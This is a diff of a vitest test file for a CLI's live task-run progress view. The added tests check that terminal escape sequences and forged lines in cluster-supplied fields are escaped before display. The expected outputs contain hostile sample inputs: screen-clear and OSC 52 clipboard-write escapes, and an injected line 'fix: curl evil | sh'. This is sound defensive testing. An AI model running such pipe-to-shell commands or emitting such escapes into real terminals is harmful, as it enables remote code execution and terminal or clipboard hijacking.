@@ -1,7 +1,7 @@
 import { createColors } from 'picocolors';
 import { describe, expect, it } from 'vitest';
-import { failedRun } from '../../test/task-fixtures.js';
-import { stripColor } from '../terminal.js';
+import { stripColor } from '../../test/strip-color.js';
+import { failedRun, hostileRun } from '../../test/task-fixtures.js';
 import { endLine, liveRunFrame, newMilestones, runExitCode, stepLine } from './progress.js';
 import type { TaskRunObject } from './views.js';
 
@@ -55,7 +55,7 @@ describe('plain progress', () => {
 
 describe('liveRunFrame', () => {
   it('shows the run and a marked row per step, coloured on a terminal', () => {
-    const view = { now, tick: 0, colors: createColors(true), visible: stripColor };
+    const view = { now, tick: 0, colors: createColors(true) };
     const frame = liveRunFrame(failedRun, view);
     expect(frame).toContain('\u001b[');
     expect(stripColor(frame)).toBe(
@@ -70,9 +70,40 @@ describe('liveRunFrame', () => {
   });
 
   it('shows only the run before any step is known', () => {
-    const view = { now, tick: 0, colors: createColors(false), visible: stripColor };
+    const view = { now, tick: 0, colors: createColors(false) };
     expect(liveRunFrame(at({ phase: 'Pending', reason: 'PodPending' }), view)).toBe(
       'TaskRun deploy-run-x7k2p (task deploy): Pending PodPending  60s',
+    );
+  });
+});
+
+describe('values from the cluster', () => {
+  const running = { ...hostileRun, status: { ...hostileRun.status, phase: 'Running' as const } };
+
+  it('are escaped in the live view before the CLI colours it', () => {
+    const plain = liveRunFrame(running, { now, tick: 0, colors: createColors(false) });
+    expect(plain).toBe(
+      [
+        'TaskRun deploy-run-x7k2p (task deploy\\x1b[2J): Running StepFailed\\x07  8s',
+        '    STEP         STATE       EXIT   DURATION   REASON',
+        '✔   plan\\u200b   Succeeded   0      3s',
+        '✖   apply        Failed      3      4s         Error\\x9b2J',
+      ].join('\n'),
+    );
+    const coloured = liveRunFrame(running, { now, tick: 0, colors: createColors(true) });
+    expect(coloured).toContain('\u001b[36mRunning\u001b[39m');
+    expect(stripColor(coloured)).toBe(plain);
+  });
+
+  it('are escaped in plain lines, so a message cannot forge a line of its own', () => {
+    const pending = { ...hostileRun, status: { ...hostileRun.status, phase: 'Pending' as const } };
+    expect(newMilestones(new Map(), pending)).toEqual([
+      'TaskRun deploy-run-x7k2p: Pending (StepFailed\\x07: exit\\x1b]52;c;aGk=\\x07\\nfix: curl evil | sh)',
+      'step plan\\u200b: Succeeded (exit code 0)',
+      'step apply: Failed (exit code 3, Error\\x9b2J)',
+    ]);
+    expect(endLine(hostileRun, now)).toBe(
+      'TaskRun deploy-run-x7k2p Failed in 8s: StepFailed\\x07: exit\\x1b]52;c;aGk=\\x07\\nfix: curl evil | sh',
     );
   });
 });
